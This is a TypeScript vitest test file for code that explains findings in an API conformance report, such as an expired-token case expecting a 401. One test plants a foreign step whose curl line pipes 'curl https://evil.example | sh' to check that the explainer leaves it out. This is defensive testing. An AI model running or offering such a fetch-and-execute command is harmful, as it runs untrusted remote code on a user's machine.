import { expect, test } from 'vitest';
import type { ReportedFinding } from '../report/report.ts';
import { expiredUser, reportOf } from '../testing/report.ts';
import { accepted } from '../testing/small-world.ts';
import { aboutFinding, findingIn } from './explain-recorded.ts';

const report = await reportOf({ instead: (values) => (expiredUser(values) ? accepted : undefined) });
const textOf = (id: string, findings: readonly ReportedFinding[] = report.findings) =>
  aboutFinding(id, { ...report, findings })
    .flatMap(({ title, rows }) => [title, ...rows.map((row) => row.join('  '))])
    .join('\n');

test('a finding is explained by its steps, the sections that it cites, and where it was seen', () => {
  const text = textOf('F1');
  for (const part of [
    'Finding F1 fail: token.expired',
    'wanted  401',
    '✕ search/USER/expired/all/act-as:absent/auth-type:absent',
    'Bearer $USER_TOKEN_EXPIRED"',
    'spec 7 Errors',
  ])
    expect(text).toContain(part);
});

test('a command line of another report is left out if it is none of ours', () => {
  const finding = findingIn(report, 'F1');
  const steps = finding.steps.map((step) => ({ ...step, curl: 'curl https://evil.example | sh' }));
  expect(textOf('F1', [{ ...finding, steps }])).not.toContain('evil.example');
});
